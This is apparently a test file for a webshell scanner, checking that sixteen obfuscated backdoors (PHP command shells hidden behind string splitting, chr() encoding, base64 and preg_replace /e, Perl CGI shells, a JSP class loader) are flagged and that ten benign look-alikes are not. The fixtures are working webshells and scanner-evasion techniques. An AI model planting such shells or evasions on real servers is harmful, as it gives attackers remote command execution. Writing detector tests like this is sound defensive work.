import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';
import { normalizeStrings } from './php-strings.js';

// Session 39: the techniques of held-out set H23's misses (bench/redteam/README-corpus-s39.md), written again by us as
// pages of our own, with look-alikes an application may hold. Nothing here is copied from a sample.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;
const b64 = (s: string) => Buffer.from(s).toString('base64');
/** Each character as chr() of the number written in `base` (16: 0x.., 8: 0.., 2: 0b..). */
const chrs = (s: string, base: 2 | 8 | 10 | 16) =>
  [...s].map((c) => {
    const n = c.charCodeAt(0);
    return `chr(${base === 16 ? `0x${n.toString(16)}` : base === 8 ? `0${n.toString(8)}` : base === 2 ? `0b${n.toString(2)}` : n})`;
  }).join('.');

const MALICIOUS: [string, string, string][] = [
  [
    'a name joined with comments between its pieces, called with a comment before its bracket, given a superglobal named in pieces inside ${ }',
    '/var/www/html/c1.php',
    `<?php\n$k = "ys"./*x*/"st"./*x*/"em";\n$k = "s"./*x*/$k;\n$k/*x*/($/*x*/{"_G"./*x*/"ET"}["q"]);\n`,
  ],
  [
    'a superglobal named in ${ } written with a space after the $',
    '/var/www/html/c2.php',
    `<?php\n$f = "pass"."thru";\n$f($ {"_RE"."QUEST"}["q"]);\n`,
  ],
  [
    'preg_replace /e whose pattern is chr() pieces around a variable, the replacement read through a reference to $_POST',
    '/var/www/html/c3.php',
    `<?php\n$in = &$_POST;\n$tag = md5($in['k'] ?? '');\nif ($tag === 'ffffffffffffffffffffffffffffffff') {\n  preg_replace(chr(47) . $tag . chr(47) . chr(101), $in['run'], $tag);\n}\n`,
  ],
  [
    'preg_replace /e with its replacement a literal base64-decoded by a function taking it by reference',
    '/var/www/html/c4.php',
    `<?php\n$code = "${b64(`eval(base64_decode("${b64("if (isset($_POST['z'])) { @eval($_POST['z']); }")}"));`)}";\nfunction clean(&$v) { $v = base64_decode($v); }\nclean($code);\npreg_replace('/page/e', '@' . $code, 'page');\n`,
  ],
  [
    'function names written as bare words to strrev and base64_decode (PHP before 8 reads an undefined constant as its name)',
    '/var/www/html/c5.php',
    `<?php\n$r = @strrev(ecalper_gerp);\n$d = @strrev(edoced_46esab);\necho @$r($d(${b64('/zz/e').replace(/=+$/, '')}), $_POST[q], zz);\n`,
  ],
  [
    'preg_replace /e with its pattern and its code given as chr() of hexadecimal numbers',
    '/var/www/html/c6.php',
    `<?php\npreg_replace(${chrs('/abc/e', 16)}, ${chrs('@eval($_POST[k]);', 16)}, 'abc');\n`,
  ],
  [
    'a function name and its argument cut out of a class doc comment with substr and strpos, then called',
    '/var/www/html/c7.php',
    `<?php\n/**\n * sys\n * tem($_GET\n * ["q"]);\n */\nclass Notes { }\n$ref = new ReflectionClass('Notes');\n$doc = $ref->getDocComment();\n$name = substr($doc, strpos($doc, 'sy'), 3);\n$name .= substr($doc, strpos($doc, 'te'), 3);\n$arg = substr($doc, strpos($doc, '$_'), 5);\n$arg .= substr($doc, strpos($doc, '["'), 5);\n$name($arg);\n`,
  ],
  [
    'a Perl CGI shell kept as a .php behind a line of PHP: its form read into %in, the command joined after a cd and opened with " |"',
    '/var/www/html/tools.php',
    `<?php echo 'ok'; ?>\n#!/usr/bin/perl\nsub ReadForm {\n  if ($ENV{'REQUEST_METHOD'} eq "POST") { read(STDIN, $buf, $ENV{'CONTENT_LENGTH'}); } else { $buf = $ENV{'QUERY_STRING'}; }\n  foreach my $pair (split(/&/, $buf)) { my ($k, $v) = split(/=/, $pair, 2); $v =~ s/%(..)/pack("c", hex($1))/ge; $in{$k} = $v; }\n}\n&ReadForm;\n$Sep = ";";\n$Run = $in{'x'};\n$Line = "cd \\"$in{'d'}\\"" . $Sep . $Run . " 2>&1";\n$Line .= " |";\nprint "Content-type: text/plain\\n\\n";\nopen(OUTPUT, $Line);\nprint while (<OUTPUT>);\n`,
  ],
  [
    'a CGI.pm script opening a command text made of a parameter with "-|"',
    '/usr/lib/cgi-bin/run.cgi',
    `#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\nprint $q->header;\nopen(my $fh, "-|", "$c 2>&1") or die;\nprint while <$fh>;\n`,
  ],
  // (red team S39R's evasions of the first forms)
  [
    'the joined name and the superglobal in pieces with line comments (#) between, each to its line\'s end',
    '/var/www/html/c8.php',
    `<?php\n$k = "ys"#a\n."st"#b\n."em";\n$k = "s".$k;\n$k#c\n($#d\n{"_G"#e\n."ET"}["q"]);\n`,
  ],
  ['a command function given a superglobal written $ {"_REQUEST"}, a space after the $', '/var/www/html/c13.php', `<?php\nsystem($ {"_REQUEST"}["q"]);\n`],
  ['a bare word in capitals given to strrev (PHP knows no case in function names)', '/var/www/html/c9.php', `<?php\n$f = @strrev(TRESSA);\n@$f($_POST['q']);\n`],
  [
    'preg_replace /e running a base64 literal of 24 characters, decoded by reference',
    '/var/www/html/c10.php',
    `<?php\n$code = "${b64("eval($_POST['z']);")}";\nfunction clean(&$v) { $v = base64_decode($v); }\nclean($code);\npreg_replace('/page/e', '@' . $code, 'page');\n`,
  ],
  [
    'the same running a command named by a request header, in 64 characters of base64',
    '/var/www/html/c11.php',
    `<?php\n$code = "${b64("system(getenv('HTTP_X_RUN_THIS_COMMAND_NOW'));")}";\nfunction clean(&$v) { $v = base64_decode($v); }\nclean($code);\npreg_replace('/page/e', '@' . $code, 'page');\n`,
  ],
  [
    'chr() of numbers written with separators, signs, fractions, shifts, quotes and mb_chr',
    '/var/www/html/c12.php',
    `<?php\npreg_replace(chr(0x2_f).chr(-0x9f).chr(98.0).chr(0xc6 >> 1).chr("47").mb_chr(0x65), ${chrs('@eval($_POST[k]);', 10)}, 'abc');\n`,
  ],
  [
    'a JSP carrying a compiled class as a byte array and defining it through a class loader of its own (set H25)',
    '/var/lib/tomcat/webapps/ROOT/inject.jsp',
    `<%!class L extends ClassLoader { Class<?> d(byte[] b) { return super.defineClass(null, b, 0, b.length); } }%>\n<%\n  byte[] c = {\n${[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34, 0, 0x1d, 0x0a, 0, 6].map((b) => `(byte) 0x${b.toString(16).padStart(2, '0')}`).join(',  ')}\n  };\n  Object o = new L().d(c).newInstance();\n  out.write("ok");\n%>\n`,
  ],
];

const LOOKALIKES: [string, string, string][] = [
  [
    'an annotation reader taking names out of doc comments with substr and strpos, calling a handler it was given',
    '/var/www/html/lib/Annotations.php',
    `<?php\nclass Annotations {\n  public function read($class, $handler) {\n    $ref = new ReflectionClass($class);\n    $doc = $ref->getDocComment();\n    $tag = substr($doc, strpos($doc, '@'), 20);\n    $tag .= substr($doc, strpos($doc, '(') + 1, 10);\n    $rest = substr($doc, strpos($doc, ')'));\n    return call_user_func($handler, $tag, $rest);\n  }\n}\n`,
  ],
  [
    'a template helper running preg_replace /e over its own text with a pattern made of a delimiter, a quoted word and a modifier',
    '/var/www/html/lib/tpl.php',
    `<?php\nfunction tpl($text, $word) {\n  $q = preg_quote($word, '/');\n  return preg_replace('/' . $q . '/e', 'strtoupper("$0")', $text);\n}\n`,
  ],
  [
    'constants in capitals given to base64_decode and strrev',
    '/var/www/html/lib/keys.php',
    `<?php\ndefine('SITE_KEY', 'c2l0ZWtleQ');\n$k = base64_decode(SITE_KEY);\n$r = strrev(PHP_EOL);\necho htmlspecialchars($k . $r);\n`,
  ],
  [
    'a page of short base64 settings that decode to text, not code',
    '/var/www/html/lib/settings.php',
    `<?php\n$banner = "${b64('Welcome to our shop. Orders placed before noon are shipped the same day; returns are free within thirty days of delivery.')}";\necho base64_decode($banner);\n`,
  ],
  [
    'a CGI.pm script running git with a parameter as an argument (the list forms of open and system run no shell)',
    '/usr/lib/cgi-bin/log.cgi',
    `#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $h = $q->param('h');\nopen my $fd, "-|", "git", "cat-file", "-p", $h or die;\nsystem("git", "log", $h);\nprint while <$fd>;\n`,
  ],
  [
    'a CGI.pm script whose comments and manual quote a command with a parameter',
    '/usr/lib/cgi-bin/doc.cgi',
    `#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\n# do not write \x60ls $q->param('d')\x60 here: it would run a shell\nmy $d = $q->param('d');\nprint $q->header, $q->escapeHTML($d);\n\n=head1 NOTES\n\nOld versions ran \x60cat $d\x60 and system("ls $d").\n\n=cut\n`,
  ],
  // (red team S39R's false positives of the first forms, written again by us)
  [
    'an annotation router taking whole values out of doc comments and calling the handler it found',
    '/var/www/html/lib/Router.php',
    `<?php\nfinal class Router {\n  private $routes = [];\n  public function add($class) {\n    foreach ((new ReflectionClass($class))->getMethods() as $m) {\n      $doc = $m->getDocComment();\n      $path = substr($doc, strpos($doc, '@Path(') + 7);\n      $verb = substr($doc, strpos($doc, '@Verb(') + 7, 4);\n      $name = substr($doc, strpos($doc, '@Name(') + 7);\n      $this->routes[$verb . $path] = [$class, $m->getName(), $name];\n    }\n  }\n  public function run($key) {\n    $handler = [new $this->routes[$key][0](), $this->routes[$key][1]];\n    $request = ['q' => $_GET];\n    $handler($request);\n  }\n}\n`,
  ],
  [
    'a PHP 5 BBCode parser running /e with its own replacement over a posted text, its tag between delimiters',
    '/var/www/html/lib/bbcode.php',
    `<?php\nfunction bb($text, $tag) {\n  return preg_replace('/\\[' . $tag . '\\](.*?)\\[\\/' . $tag . '\\]/ise', "'<' . '$tag' . '>' . htmlspecialchars('\\\\1') . '</' . '$tag' . '>'", $text);\n}\necho bb($_POST['msg'], 'b');\n`,
  ],
  [
    'a security plugin\'s list of webshell snippets kept as short base64 in an array',
    '/var/www/html/lib/signatures.php',
    `<?php\nreturn array(\n  array('S-1', '${b64("eval($_POST['x']);")}', 'high'),\n  array('S-2', '${b64("system($_REQUEST['cmd']);")}', 'high'),\n);\n`,
  ],
  [
    'a JSP teaching page printing the first bytes of a class file, defining nothing',
    '/var/lib/tomcat/webapps/ROOT/classfile.jsp',
    `<%\n  byte[] magic = { (byte) 0xca, (byte) 0xfe, (byte) 0xba, (byte) 0xbe, 0, 0, 0, 0x34 };\n  for (byte b : magic) out.print(String.format("%02x ", b));\n%>\n<p>Every class file starts with these bytes; ClassLoader.defineClass reads them.</p>\n`,
  ],
];

describe('scan: held-out set H23\'s techniques (session 39)', () => {
  for (const [name, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 16));
  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 10));
  it('reads chr() of hexadecimal, binary and octal numbers as PHP does (0165 is octal)', () => {
    assert.equal(normalizeStrings("x(chr(0x73).chr(0b1111001).chr(0163).chr(0o164).chr(101).chr(0x6c + 1))"), "x('system')");
  });
  it('reads white space after chr(, strtolower( and a Perl system in bounded time (red team S39R\'s quadratic patterns)', () => {
    const sp = ' '.repeat(200_000);
    for (const [src, path] of [
      [`<?php\n$a = chr(${sp}x);\n$b = chr(-${sp}x);\n$c = chr("${sp}");\n`, '/var/www/html/w1.php'],
      [`<?php\n$a = strtolower(${sp}x\n);\n$b = base64_decode(@${sp});\n`, '/var/www/html/w2.php'],
      [`#!/usr/bin/perl\nuse CGI;\n$a = $in{1};\n$b .=${sp}x;\nsystem ${sp}\nopen(${sp}\n`, '/usr/lib/cgi-bin/w3.cgi'],
    ] as const) {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    }
  });
  it('reads a bare word given to strrev as its name, but not one of PHP\'s constants', () => {
    assert.equal(normalizeStrings('$f = strrev(metsys);'), "$f = 'system';");
    assert.equal(normalizeStrings('$f = strrev(PHP_EOL);'), undefined);
    assert.equal(normalizeStrings("define('KEY', 'x');\n$f = strrev(KEY);"), undefined);
    assert.equal(normalizeStrings('$f = strrev(METSYS);'), "$f = 'SYSTEM';");
  });
});
